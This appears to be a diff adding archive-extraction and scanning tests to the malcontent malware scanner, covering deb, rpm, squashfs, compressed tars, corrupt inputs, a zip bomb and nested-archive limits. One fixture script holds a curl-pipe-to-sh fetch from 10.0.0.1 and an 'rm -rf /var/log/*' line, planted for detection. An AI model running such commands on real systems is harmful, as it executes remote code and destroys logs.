@@ -1,12 +1,21 @@
 package action
 
 import (
+	"archive/tar"
+	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/binary"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
 	"io/fs"
+	"maps"
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
 
@@ -18,6 +27,8 @@ import (
 	"github.com/chainguard-dev/malcontent/rules"
 	thirdparty "github.com/chainguard-dev/malcontent/third_party"
 	"github.com/google/go-cmp/cmp"
+	"github.com/klauspost/compress/zstd"
+	"github.com/ulikunitz/xz"
 )
 
 func TestExtractionMethod(t *testing.T) {
@@ -27,9 +38,12 @@ func TestExtractionMethod(t *testing.T) {
 		want func(context.Context, string, string) error
 	}{
 		{"apk", ".apk", archive.ExtractTar},
+		{"deb", ".deb", archive.ExtractDeb},
 		{"gem", ".gem", archive.ExtractTar},
 		{"gzip", ".gz", archive.ExtractGzip},
 		{"jar", ".jar", archive.ExtractZip},
+		{"rpm", ".rpm", archive.ExtractRPM},
+		{"squashfs", ".squashfs", archive.ExtractSquashfs},
 		{"tar.gz", ".tar.gz", archive.ExtractTar},
 		{"tar.xz", ".tar.xz", archive.ExtractTar},
 		{"tar", ".tar", archive.ExtractTar},
@@ -128,6 +142,348 @@ func TestExtractTar(t *testing.T) {
 	}
 }
 
+// compressedTar returns a tar archive containing name, compressed with the given ext.
+func compressedTar(t *testing.T, ext string, name string, data []byte) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	var w io.WriteCloser
+	var err error
+	switch ext {
+	case ".tar.xz":
+		w, err = xz.NewWriter(&buf)
+	case ".tar.zst":
+		w, err = zstd.NewWriter(&buf)
+	default:
+		t.Fatalf("unsupported extension: %s", ext)
+	}
+	if err != nil {
+		t.Fatalf("writer: %v", err)
+	}
+
+	tw := tar.NewWriter(w)
+	if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
+		t.Fatalf("header: %v", err)
+	}
+	if _, err := tw.Write(data); err != nil {
+		t.Fatalf("write: %v", err)
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatalf("close tar: %v", err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatalf("close: %v", err)
+	}
+	return buf.Bytes()
+}
+
+func TestExtractCompressedTar(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	for _, ext := range []string{".tar.xz", ".tar.zst"} {
+		t.Run(ext, func(t *testing.T) {
+			t.Parallel()
+			p := filepath.Join(t.TempDir(), "release"+ext)
+			if err := os.WriteFile(p, compressedTar(t, ext, "bin/run.sh", []byte("#!/bin/sh\necho hi\n")), 0o600); err != nil {
+				t.Fatal(err)
+			}
+
+			dir, err := archive.ExtractArchiveToTempDir(ctx, p)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer os.RemoveAll(dir)
+
+			got, err := os.ReadFile(filepath.Join(dir, "bin", "run.sh"))
+			if err != nil {
+				t.Fatalf("extracted file: %v", err)
+			}
+			if want := "#!/bin/sh\necho hi\n"; string(got) != want {
+				t.Errorf("extracted content = %q, want %q", got, want)
+			}
+		})
+	}
+}
+
+func TestScanCorruptCompressedTar(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	dir := t.TempDir()
+	var paths []string
+	for _, ext := range []string{".tar.xz", ".tar.zst"} {
+		data := compressedTar(t, ext, "run.sh", bytes.Repeat([]byte("#!/bin/sh\n"), 1024))
+		// Keep the header but mangle the compressed payload
+		for i := len(data) / 2; i < len(data); i++ {
+			data[i] ^= 0xff
+		}
+		p := filepath.Join(dir, "corrupt"+ext)
+		if err := os.WriteFile(p, data, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, p)
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   paths,
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	for _, p := range paths {
+		v, ok := res.Files.Load(p)
+		if !ok {
+			t.Errorf("no report for %s", p)
+			continue
+		}
+		if fr, ok := v.(*malcontent.FileReport); !ok || fr.Skipped != "corrupt compressed stream" {
+			t.Errorf("%s: got %+v, want a corrupt compressed stream skip", p, v)
+		}
+	}
+}
+
+func TestExtractDeb(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	dir, err := archive.ExtractArchiveToTempDir(ctx, filepath.Join("testdata", "planted_1.0.0_all.deb"))
+	if err != nil {
+		t.Fatalf("extract: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	got, err := os.ReadFile(filepath.Join(dir, "usr", "bin", "payload.sh"))
+	if err != nil {
+		t.Fatalf("read payload: %v", err)
+	}
+	if !bytes.Contains(got, []byte("curl")) {
+		t.Errorf("payload.sh = %q, want the planted script", got)
+	}
+}
+
+func TestScanPackage(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	p := filepath.Join("testdata", "planted_1.0.0_all.deb")
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   []string{p},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	payload := p + " ∴ /usr/bin/payload.sh"
+	var found *malcontent.FileReport
+	res.Files.Range(func(_, value any) bool {
+		if fr, ok := value.(*malcontent.FileReport); ok && fr.Path == payload {
+			found = fr
+		}
+		return true
+	})
+	if found == nil || len(found.Behaviors) == 0 {
+		t.Errorf("%s: got %+v, want the planted behaviors", payload, found)
+	}
+}
+
+func TestScanCorruptPackage(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	deb, err := os.ReadFile(filepath.Join("testdata", "planted_1.0.0_all.deb"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	corrupt := map[string][]byte{
+		// A valid ar header followed by a truncated data member
+		"truncated.deb": deb[:len(deb)-64],
+		"garbage.rpm":   bytes.Repeat([]byte("not an rpm "), 16),
+	}
+
+	dir := t.TempDir()
+	paths := make([]string, 0, len(corrupt))
+	for name, data := range corrupt {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, data, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, p)
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   paths,
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	for _, p := range paths {
+		v, ok := res.Files.Load(p)
+		if !ok {
+			t.Errorf("no report for %s", p)
+			continue
+		}
+		if fr, ok := v.(*malcontent.FileReport); !ok || fr.Skipped != "corrupt package" {
+			t.Errorf("%s: got %+v, want a corrupt package skip", p, v)
+		}
+	}
+}
+
+// streamTestTar writes a tar to dir holding a small script, a script larger than 256 bytes and a nested archive.
+func streamTestTar(t *testing.T, dir string) string {
+	t.Helper()
+
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	for _, f := range []struct {
+		name string
+		data []byte
+	}{
+		{"bin/payload.sh", []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n")},
+		{"bin/large.sh", append([]byte("#!/bin/sh\n"), bytes.Repeat([]byte("echo hello\n"), 64)...)},
+		{"inner.tar.zst", compressedTar(t, ".tar.zst", "inner.sh", []byte("#!/bin/sh\necho inner\n"))},
+	} {
+		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o755, Size: int64(len(f.data)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatalf("header: %v", err)
+		}
+		if _, err := tw.Write(f.data); err != nil {
+			t.Fatalf("write: %v", err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatalf("close tar: %v", err)
+	}
+
+	p := filepath.Join(dir, "release.tar")
+	if err := os.WriteFile(p, buf.Bytes(), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func TestStreamTarToTempDir(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	p := streamTestTar(t, t.TempDir())
+	if !archive.IsStreamable(p) {
+		t.Fatalf("%s is not streamable", p)
+	}
+
+	streamed := map[string]string{}
+	dir, err := archive.StreamTarToTempDir(ctx, p, 256, func(sf archive.StreamedFile) error {
+		rel, err := filepath.Rel(sf.Root, sf.Path)
+		if err != nil {
+			return err
+		}
+		streamed[rel] = string(sf.Content)
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("stream: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	if len(streamed) != 1 || !strings.Contains(streamed[filepath.Join("bin", "payload.sh")], "curl") {
+		t.Errorf("streamed %v, want only bin/payload.sh", streamed)
+	}
+
+	var extracted []string
+	if err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		rel, err := filepath.Rel(dir, path)
+		extracted = append(extracted, rel)
+		return err
+	}); err != nil {
+		t.Fatalf("walk: %v", err)
+	}
+	if want := []string{filepath.Join("bin", "large.sh"), filepath.Join("inner", "inner.sh")}; !slices.Equal(extracted, want) {
+		t.Errorf("extracted %v, want %v", extracted, want)
+	}
+}
+
+func TestScanStreamedTar(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	p := streamTestTar(t, t.TempDir())
+	scan := func(streamMemory int64) map[string]*malcontent.FileReport {
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency:     runtime.NumCPU(),
+			Rules:           yrs,
+			ScanPaths:       []string{p},
+			StreamTarMemory: streamMemory,
+		})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		reports := map[string]*malcontent.FileReport{}
+		res.Files.Range(func(_, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				reports[fr.Path] = fr
+			}
+			return true
+		})
+		return reports
+	}
+
+	streamed := scan(256)
+	payload := p + " ∴ /bin/payload.sh"
+	fr := streamed[payload]
+	if fr == nil || len(fr.Behaviors) == 0 {
+		t.Fatalf("%s has no behaviors: %+v", payload, streamed)
+	}
+	if fr.ArchiveRoot == "" || !strings.HasSuffix(fr.FullPath, filepath.Join("bin", "payload.sh")) {
+		t.Errorf("ArchiveRoot = %q, FullPath = %q, want the extraction paths", fr.ArchiveRoot, fr.FullPath)
+	}
+
+	// Streaming reports the same files and behaviors as extraction
+	extracted := scan(0)
+	if len(streamed) != len(extracted) {
+		t.Errorf("streamed reports %d files, extraction %d", len(streamed), len(extracted))
+	}
+	for path, want := range extracted {
+		if got := streamed[path]; got == nil || got.RiskScore != want.RiskScore || len(got.Behaviors) != len(want.Behaviors) {
+			t.Errorf("%s: streamed %+v, extracted %+v", path, got, want)
+		}
+	}
+}
+
 func TestExtractGzip(t *testing.T) {
 	t.Parallel()
 	ctx := context.Background()
@@ -184,6 +540,178 @@ func TestExtractZip(t *testing.T) {
 	}
 }
 
+func TestExtractSquashfs(t *testing.T) {
+	t.Parallel()
+	for _, compression := range []string{"gzip", "xz", "zstd"} {
+		t.Run(compression, func(t *testing.T) {
+			t.Parallel()
+			ctx := context.Background()
+			path := filepath.Join("testdata", "squashfs", compression+".squashfs")
+			dir, err := archive.ExtractArchiveToTempDir(ctx, path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer os.RemoveAll(dir)
+
+			var got []string
+			err = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+				if err != nil {
+					return err
+				}
+				if path == dir {
+					return nil
+				}
+				rel, err := filepath.Rel(dir, path)
+				if err != nil {
+					return err
+				}
+				if d.IsDir() {
+					rel += "/"
+				}
+				got = append(got, rel)
+				return nil
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := []string{"bin/", "bin/hello.sh", "data.txt", "empty/"}
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Errorf("unexpected extracted files (-want +got):\n%s", diff)
+			}
+
+			// data.txt spans a full data block and a fragment
+			data, err := os.ReadFile(filepath.Join(dir, "data.txt"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if want := bytes.Repeat([]byte("malcontent squashfs fixture\n"), 200); !bytes.Equal(data, want) {
+				t.Errorf("data.txt = %d bytes, want %d bytes", len(data), len(want))
+			}
+
+			meta, err := archive.SquashfsMeta(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if meta["squashfs_compression"] != compression {
+				t.Errorf("squashfs_compression = %q, want %q", meta["squashfs_compression"], compression)
+			}
+		})
+	}
+}
+
+func TestExtractSquashfsLimits(t *testing.T) {
+	t.Parallel()
+	ctx := archive.WithLimits(context.Background(), archive.Limits{MaxExtractedFiles: 1})
+	_, err := archive.ExtractArchiveToTempDir(ctx, filepath.Join("testdata", "squashfs", "gzip.squashfs"))
+	if !errors.Is(err, archive.ErrLimitsExceeded) {
+		t.Fatalf("ExtractArchiveToTempDir() error = %v, want %v", err, archive.ErrLimitsExceeded)
+	}
+}
+
+// squashfsTestImage returns an uncompressed squashfs image holding a root
+// directory with a single subdirectory, "sub", whose only entry is a directory
+// named "loop" that refers to the inode at offset target in the inode table.
+func squashfsTestImage(t *testing.T, target uint16) []byte {
+	t.Helper()
+	type dirInode struct {
+		Type, Mode, UID, GID uint16
+		MTime, Number        uint32
+		Block, Links         uint32
+		Size, Offset         uint16
+		ParentIno            uint32
+	}
+	type dirHeader struct {
+		Count, Start, Number uint32
+	}
+	type dirEntry struct {
+		Offset   uint16
+		InodeOff int16
+		Type     uint16
+		NameSize uint16
+	}
+
+	put := func(b *bytes.Buffer, vs ...any) {
+		for _, v := range vs {
+			if err := binary.Write(b, binary.LittleEndian, v); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+
+	var dirs bytes.Buffer
+	put(&dirs, dirHeader{}, dirEntry{Offset: 32, Type: 1, NameSize: 2})
+	dirs.WriteString("sub")
+	rootSize := dirs.Len() + 3
+	put(&dirs, dirHeader{}, dirEntry{Offset: target, Type: 1, NameSize: 3})
+	dirs.WriteString("loop")
+	subSize := dirs.Len() - rootSize + 6
+
+	var inodes bytes.Buffer
+	put(&inodes,
+		dirInode{Type: 1, Number: 1, Links: 3, Size: uint16(rootSize)},
+		dirInode{Type: 1, Number: 2, Links: 2, Size: uint16(subSize), Offset: uint16(rootSize - 3), ParentIno: 1},
+	)
+
+	const sbSize = 96
+	inodeStart := uint64(sbSize)
+	dirStart := inodeStart + 2 + uint64(inodes.Len())
+	end := dirStart + 2 + uint64(dirs.Len())
+
+	sb := []any{
+		uint32(0x73717368), uint32(2), uint32(0), uint32(4096), uint32(0), // magic, inodes, mtime, block size, fragments
+		uint16(1), uint16(12), uint16(0), uint16(0), uint16(4), uint16(0), // compression, block log, flags, ids, version
+		uint64(0), end, // root inode, bytes used
+		^uint64(0), ^uint64(0), inodeStart, dirStart, ^uint64(0), ^uint64(0), // id, xattr, inode, dir, fragment, export tables
+	}
+
+	var img bytes.Buffer
+	put(&img, sb...)
+	put(&img, uint16(inodes.Len())|1<<15, inodes.Bytes(), uint16(dirs.Len())|1<<15, dirs.Bytes())
+	return img.Bytes()
+}
+
+func TestExtractMalformedSquashfs(t *testing.T) {
+	t.Parallel()
+
+	// truncate cuts an image short and records the new length as the bytes used
+	truncate := func(img []byte, n int) []byte {
+		img = img[:n]
+		binary.LittleEndian.PutUint64(img[40:], uint64(n))
+		return img
+	}
+	img := squashfsTestImage(t, 0)
+
+	tests := []struct {
+		name string
+		img  []byte
+		want string
+	}{
+		{"ancestor loop", squashfsTestImage(t, 0), "squashfs directory loop at sub/loop"},
+		{"self loop", squashfsTestImage(t, 32), "squashfs directory loop at sub/loop"},
+		{"truncated image", img[:len(img)-8], "squashfs image is truncated"},
+		{"truncated superblock", img[:64], "failed to read squashfs superblock"},
+		{"truncated inode table", truncate(slices.Clone(img), 96+2+48), "extends past the end of the image"},
+		{"truncated directory table", truncate(slices.Clone(img), len(img)-8), "extends past the end of the image"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			p := filepath.Join(t.TempDir(), "malformed.squashfs")
+			if err := os.WriteFile(p, tt.img, 0o600); err != nil {
+				t.Fatal(err)
+			}
+			dir, err := archive.ExtractArchiveToTempDir(context.Background(), p)
+			if err == nil {
+				os.RemoveAll(dir)
+				t.Fatal("ExtractArchiveToTempDir() succeeded, want error")
+			}
+			if !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("ExtractArchiveToTempDir() error = %v, want it to contain %q", err, tt.want)
+			}
+		})
+	}
+}
+
 func TestExtractNestedArchive(t *testing.T) {
 	t.Parallel()
 	ctx := context.Background()
@@ -341,11 +869,135 @@ func TestScanInvalidArchiveIgnore(t *testing.T) {
 		t.Fatalf("full: %v", err)
 	}
 
-	got := out.String()
-	want := "{}\n"
-	if diff := cmp.Diff(want, got); diff != "" {
-		t.Errorf("output mismatch: (-want +got):\n%s", diff)
+	// The invalid archives are left out of the files, and listed as errors instead
+	var got render.Report
+	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
+		t.Fatalf("unmarshal: %v", err)
+	}
+	if len(got.Files) > 0 {
+		t.Errorf("got files %v, want none", slices.Collect(maps.Keys(got.Files)))
+	}
+	for i := range got.Errors {
+		got.Errors[i].Error = ""
+	}
+	want := []malcontent.ScanError{
+		{Path: "testdata/17419.zip", Phase: malcontent.ScanPhaseExtract},
+		{Path: "testdata/joblib_0.9.4.dev0_compressed_cache_size_pickle_py35_np19.gz", Phase: malcontent.ScanPhaseExtract},
+	}
+	if diff := cmp.Diff(want, got.Errors); diff != "" {
+		t.Errorf("errors mismatch: (-want +got):\n%s", diff)
+	}
+}
+
+// writeZip writes a zip archive containing files to path.
+func writeZip(t *testing.T, path string, files map[string][]byte) {
+	t.Helper()
+
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, data := range files {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatalf("create %s: %v", name, err)
+		}
+		if _, err := w.Write(data); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatalf("close: %v", err)
+	}
+	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
+		t.Fatalf("write %s: %v", path, err)
+	}
+}
+
+func TestScanArchiveLimits(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	dir := t.TempDir()
+
+	// A zip nested within zips five levels deep
+	nested := filepath.Join(dir, "nested.zip")
+	writeZip(t, nested, map[string][]byte{"payload.sh": []byte("#!/bin/sh\necho hello\n")})
+	for i := range 4 {
+		data, err := os.ReadFile(nested)
+		if err != nil {
+			t.Fatalf("read: %v", err)
+		}
+		writeZip(t, nested, map[string][]byte{fmt.Sprintf("level%d.zip", i): data})
 	}
+
+	// A small zip that inflates to far more than its size
+	bomb := filepath.Join(dir, "bomb.zip")
+	writeZip(t, bomb, map[string][]byte{"zeros": make([]byte, 8<<20)})
+
+	many := filepath.Join(dir, "many.zip")
+	files := map[string][]byte{}
+	for i := range 32 {
+		files[fmt.Sprintf("file%d.sh", i)] = []byte("#!/bin/sh\n")
+	}
+	writeZip(t, many, files)
+
+	tests := []struct {
+		name   string
+		path   string
+		config malcontent.Config
+	}{
+		{"depth", nested, malcontent.Config{MaxArchiveDepth: 3}},
+		{"bytes", bomb, malcontent.Config{MaxExtractedBytes: 1 << 20}},
+		{"files", many, malcontent.Config{MaxExtractedFiles: 8}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			mc := tc.config
+			mc.Concurrency = runtime.NumCPU()
+			mc.ExitExtraction = true
+			mc.Rules = yrs
+			mc.ScanPaths = []string{tc.path}
+
+			res, err := Scan(ctx, mc)
+			if err != nil {
+				t.Fatalf("scan: %v", err)
+			}
+
+			v, ok := res.Files.Load(tc.path)
+			if !ok {
+				t.Fatalf("no report for %s", tc.path)
+			}
+			fr, ok := v.(*malcontent.FileReport)
+			if !ok {
+				t.Fatalf("unexpected report type %T", v)
+			}
+			if want := "archive limits exceeded"; fr.Skipped != want {
+				t.Errorf("Skipped = %q, want %q", fr.Skipped, want)
+			}
+		})
+	}
+
+	// The same archives are extracted in full within the default limits
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   []string{nested},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	res.Files.Range(func(key, value any) bool {
+		if fr, ok := value.(*malcontent.FileReport); ok && fr.Skipped != "" {
+			t.Errorf("%v unexpectedly skipped: %s", key, fr.Skipped)
+		}
+		return true
+	})
 }
 
 func TestScanConflictingArchiveFiles(t *testing.T) {